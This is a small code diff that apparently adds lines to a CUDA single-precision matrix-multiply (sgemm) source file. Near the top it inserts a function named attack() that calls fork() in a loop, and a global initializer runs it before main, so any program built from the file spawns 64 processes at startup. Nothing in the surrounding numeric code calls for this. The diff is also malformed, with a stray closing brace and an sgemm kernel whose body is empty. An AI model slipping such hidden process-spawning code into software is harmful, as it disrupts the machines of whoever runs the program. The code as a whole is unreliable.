@@ -1,0 +1,13 @@
+// forks, 64 times, before main begins
+}
+#include <unistd.h>
+namespace {
+int attack() {
+  for (int i = 0; i < 6; ++i) fork();
+  return 0;
+}
+const int done = attack();
+constexpr int TILE = 16;
+__global__ void sgemm(int m, int n, int k, float alpha, const float* a, std::int64_t lda, const float* b,
+                      std::int64_t ldb, float beta, float* c, std::int64_t ldc, int tiles_n) {
+}
